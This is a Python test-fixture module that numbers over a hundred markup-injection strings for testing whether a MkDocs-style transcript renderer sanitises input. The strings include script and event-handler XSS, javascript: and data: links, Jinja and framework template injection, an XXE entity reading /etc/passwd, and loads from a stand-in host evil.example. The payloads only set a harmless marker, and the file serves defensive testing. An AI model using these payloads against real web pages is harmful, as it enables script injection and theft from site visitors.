"""What somebody could write into a transcript to reach further than their words should.

Each attack is one line, marked with its number so that a test can say which one
got through. `{n}` is that number; `hit({n})` is what an attack that runs would call.
"""

from __future__ import annotations

from dataclasses import dataclass

HIT = "document.documentElement.dataset.hit"
"""What an attack that runs sets."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One line of a transcript."""

    name: str
    """What it tries."""
    text: str
    """The line, `{n}` in it already replaced."""
    shown: str
    """What readers see of it."""


_SAME = "="
"""Shown as it is written."""

_TABLE: tuple[tuple[str, str, str], ...] = (
    # Elements and what they start.
    ("script", "<script>hit({n})</script>", _SAME),
    ("script of another host", "<script src=//evil.example/{n}.js></script>", _SAME),
    ("script in capitals", "<ScRiPt type=module>hit({n})</sCrIpT >", _SAME),
    ("script that is not closed", "<script>hit({n})//", _SAME),
    ("two scripts in one", "<scr<script>ipt>hit({n})</scr</script>ipt>", _SAME),
    ("end of our own script", "</script><script>hit({n})</script>", _SAME),
    ("picture that fails", "가<img src=x onerror=hit({n})>나", "가 나"),
    ("picture without a file", '가<img src="x" onerror="hit({n})"나', _SAME),
    ("picture in a quote of its own", "나<img alt='>' src=x onerror=hit({n})>다", "나 다"),
    ("SVG", "<svg onload=hit({n})>", _SAME),
    ("SVG without blanks", "<svg/onload=hit({n})//", _SAME),
    ("SVG with a script", "<svg><script>hit({n})</script></svg>", _SAME),
    (
        "SVG that animates",
        "<svg><a><animate attributeName=href values=javascript:hit({n}) /></a>",
        _SAME,
    ),
    ("MathML", '<math href="javascript:hit({n})">눌러 보세요</math>', _SAME),
    ("details", "<details open ontoggle=hit({n})>{n}", "{n}"),
    ("field with the focus", "<input autofocus onfocus=hit({n})>", _SAME),
    ("text area that is not closed", "<textarea autofocus onfocus=hit({n})>", _SAME),
    ("film", "<video><source onerror=hit({n})></video>", _SAME),
    ("frame", "<iframe src=javascript:hit({n})></iframe>", _SAME),
    ("frame with a page in it", '<iframe srcdoc="<script>parent.hit({n})</script>">', _SAME),
    ("object", "<object data=javascript:hit({n})></object>", _SAME),
    ("embedded", "<embed src=data:text/html,<script>hit({n})</script>>", _SAME),
    ("base of all addresses", "<base href=https://evil.example/{n}/>", _SAME),
    ("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">', _SAME),
    ("style sheet", "<link rel=stylesheet href=https://evil.example/{n}.css>", _SAME),
    ("style", "<style>@import'https://evil.example/{n}.css';</style>", _SAME),
    ("style attribute", "가<b style=position:fixed;inset:0>{n}번</b>나", _SAME),
    ("form", "<form action=https://evil.example/{n}><button>보내기</button></form>", _SAME),
    (
        "button of another form",
        "<button form=x formaction=javascript:hit({n})>보내기</button>",
        _SAME,
    ),
    ("template", "<template><script>hit({n})</script></template>", _SAME),
    ("noscript", "<noscript><p title='</noscript><script>hit({n})</script>'>", "<noscript>"),
    ("title", "</title><script>hit({n})</script>", _SAME),
    (
        "end of the article",
        "</article></main></body><script>hit({n})</script>",
        "</main></body><script>hit({n})</script>",
    ),
    ("layout with an event", "가<div onclick=hit({n})>나</div>다", "가 나 다"),
    (
        "layout that MkDocs reads into",
        "라<div markdown='1' onclick=hit({n})>마</div>바",
        "라 마 바",
    ),
    ("emphasis with an event", "가<b onmouseover=hit({n})>나</b>다", _SAME),
    ("part of the theme", "<div data-md-component=announce id=__search>{n}", "{n}"),
    ("name of a part of the theme", "__config", _SAME),
    ("name of a part of ours", "mundap-finder", _SAME),
    # What parsers start, too.
    ("comment", "가<!-- <script>hit({n})</script> -->나", "가 나"),
    (
        "comment that ends at once",
        "가<!--><script>hit({n})</script>나",
        "가 <script>hit({n})</script>나",
    ),
    ("CDATA", "<![CDATA[<script>hit({n})</script>]]>", _SAME),
    ("marked section", "<![ {n} 그리고 `<![{n}`", "<![ {n} 그리고 <![{n}"),
    ("declaration", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> {n}", _SAME),
    ("processing instruction", "<?php system('id {n}') ?>", _SAME),
    ("entities", "&lt;script&gt;hit({n})&lt;/script&gt;", "<script>hit({n})</script>"),
    ("entities twice", "&amp;lt;script&amp;gt;hit({n})", "&lt;script&gt;hit({n})"),
    ("entities by number", "&#60;script&#x3e;hit({n})", "<script>hit({n})"),
    ("quotation marks", "\"><script>hit({n})</script><a title='", _SAME),
    ("code", "`<img src=x onerror=hit({n})>`", "<img src=x onerror=hit({n})>"),
    ("code with backticks", "`` `<script>hit({n})</script>` ``", "`<script>hit({n})</script>`"),
    ("backticks that are not closed", "``` `<script>hit({n})</script>", _SAME),
    (
        "placeholders of Python-Markdown",
        "\x02wzxhzdk:0\x03 \x02klzzwxh:0{n}\x03",
        "wzxhzdk:0 klzzwxh:0{n}",
    ),
    (
        "script written from right to left",
        "\u202e<script>hit({n})</script>\u202c",
        "<script>hit({n})</script>",
    ),
    ("wide brackets", "＜script＞hit({n})＜/script＞", _SAME),
    # Addresses.
    ("javascript:", "[가{n}](javascript:hit({n}))", "가{n} (javascript:hit({n}))"),
    ("javascript: in capitals", "[나{n}](JaVaScRiPt:hit({n}))", "나{n} (JaVaScRiPt:hit({n}))"),
    (
        "javascript: with entities",
        "[다{n}](&#106;avascript&colon;hit({n}))",
        "다{n} (javascript:hit({n}))",
    ),
    ("javascript: with a tab", "[라{n}](<java\tscript:hit({n})>)", "라{n} (java script:hit({n}))"),
    (
        "javascript: with an entity of a tab",
        "[마{n}](java&Tab;script:hit({n}))",
        "마{n} (java script:hit({n}))",
    ),
    ("javascript: after a control", "[바{n}](\x01javascript:hit({n}))", "바{n}"),
    (
        "javascript: after a blank",
        "[사{n}](<  javascript:hit({n})>)",
        "사{n} (javascript:hit({n}))",
    ),
    ("javascript: with percents", "[아{n}](javascript%3Ahit({n}))", "아{n}"),
    (
        "javascript: that looks like a path",
        "[자{n}](javascript://evil.example/%0ahit({n}))",
        "자{n}",
    ),
    (
        "javascript: with a backslash",
        "[차{n}](javascript\\:hit({n}))",
        "차{n} (javascript:hit({n}))",
    ),
    ("javascript: between zero widths", "[카{n}](java\u200bscript:hit({n}))", "카{n}"),
    ("vbscript:", "[타{n}](vbscript:msgbox({n}))", "타{n} (vbscript:msgbox({n}))"),
    ("data:", "[파{n}](data:text/html,<script>hit({n})</script>)", "파{n}"),
    ("data: of a picture", "![하{n}](data:image/svg+xml,<svg/onload=hit({n})>)", "하{n}"),
    ("file:", "[거{n}](file:///etc/passwd)", "거{n} (file:///etc/passwd)"),
    ("blob:", "[너{n}](blob:https://evil.example/{n})", "너{n} (blob:https://evil.example/{n})"),
    ("bare address that runs", "<javascript:hit({n})>", "javascript:hit({n})"),
    (
        "bare address of data",
        "<data:text/html;base64,PHNjcmlwdD4{n}>",
        "data:text/html;base64,PHNjcmlwdD4{n}",
    ),
    (
        "anchor of HTML that runs",
        '<a href="javascript:hit({n})">더{n}</a>',
        "더{n} (javascript:hit({n}))",
    ),
    ("anchor with an event", '<a href="#" onclick="hit({n})">러{n}</a>', "러{n}"),
    (
        "anchor with entities",
        "<a href='&#x6A;avascript:hit({n})'>머{n}</a>",
        "머{n} (javascript:hit({n}))",
    ),
    ("end of the attribute", '[버{n}](https://example.org/"onclick="hit({n}))', "버{n}"),
    ("end of the title", "[서{n}](https://example.org/ 'x\" onclick=\"hit({n})')", "서{n}"),
    (
        "attributes after a link",
        "[어{n}](https://example.org/){onclick=hit({n})}",
        "어{n}{onclick=hit({n})}",
    ),
    (
        "attributes that run after a link",
        '[저{n}](https://example.org/){href="javascript:hit({n})"}',
        '저{n}{href="javascript:hit({n})"}',
    ),
    ("picture of another host", "![처{n}](https://evil.example/{n}.png)", "처{n}"),
    ("picture out of the folder", "![커{n}](../../mkdocs.yml)", "커{n}"),
    ("address without a scheme", "[터{n}](//evil.example/{n})", "터{n}"),
    (
        "host that is no host",
        "[구{n}](https://a℀b.example/{n})",
        "구{n} (https://a℀b.example/{n})",
    ),
    ("address with blanks and a bracket", "[퍼{n}](<https://example.org/a b>c)", _SAME),
    ("reference", "[허{n}][ref{n}]", _SAME),
    ("definition of a reference", "[ref{n}]: javascript:hit({n})", _SAME),
    ("a definition that hides", "[답변{n}]: 네", _SAME),
    # What extensions of Markdown would do.
    ("attribute list of a block", "고{n} {: onclick=hit({n}) }", _SAME),
    ("attribute list with a class and an id", "노{n} { .md-banner #__search }", _SAME),
    (
        "attribute list of emphasis",
        "**도{n}**{: onmouseover=hit({n}) style=color:red }",
        "도{n}{: onmouseover=hit({n}) style=color:red }",
    ),
    ("snippet of a file", '--8<-- "mkdocs.yml" {n}', _SAME),
    ("snippet by its other mark", ';--8<-- "../../etc/passwd" {n}', _SAME),
    ("inclusion of Jinja", "{% include 'mkdocs.yml' %} {n}", _SAME),
    ("braces of Jinja", "{{ config.site_dir }} {{ 7 * 191 }} {n}", _SAME),
    ("braces of a framework", "{{constructor.constructor('hit({n})')()}}", _SAME),
    ("inclusion of markdown-include", "{!mkdocs.yml!} {n}", _SAME),
    ("admonition", '!!! danger "<img src=x> {n}"', '!!! danger " {n}"'),
    ("details that open", '???+ danger "{n}번 <svg onload=hit({n})>"', _SAME),
    ("tab", '=== "{n}번 탭"', _SAME),
    ("table of contents", "[TOC] {n}", _SAME),
    ("abbreviation", "*[HTML]: {n} <script>hit({n})</script>", _SAME),
    ("footnote", "가나[^{n}]", _SAME),
    ("definition of a footnote", "[^{n}]: 각주 <script>hit({n})</script>", _SAME),
    ("emoji", ":smile: :material-alert: :octicons-bug-16: {n}", _SAME),
    ("keys", "++ctrl+alt+del++ {n}", _SAME),
    ("critic", "{++가{n}++} {>>나<<} {==다==}", _SAME),
    ("marked and inserted", "==가{n}== ^^나^^ ^다^", _SAME),
    ("metadata of MultiMarkdown", "template: 404.html {n}", _SAME),
    ("heading underlined", "제목 {n}\n    ======", "제목 {n}"),
    ("number of a year", "2021. 그때는 {n}명", _SAME),
    ("table", "| <script>hit({n})</script> | a |", _SAME),
    ("formula", "$\\href{javascript:hit({n})}{x}$ \\(y\\)", "$\\href{javascript:hit({n})}{x}$ (y)"),
)


def _attack(number: int, name: str, text: str, shown: str) -> Attack:
    written = text.replace("{n}", str(number)).replace("hit(", f"{HIT}=(")
    seen = (
        written if shown is _SAME else shown.replace("{n}", str(number)).replace("hit(", f"{HIT}=(")
    )
    return Attack(name, written, seen)


ATTACKS: tuple[Attack, ...] = tuple(_attack(number, *row) for number, row in enumerate(_TABLE, 100))
"""All of them, numbered from 100 on, so that no number is part of another."""
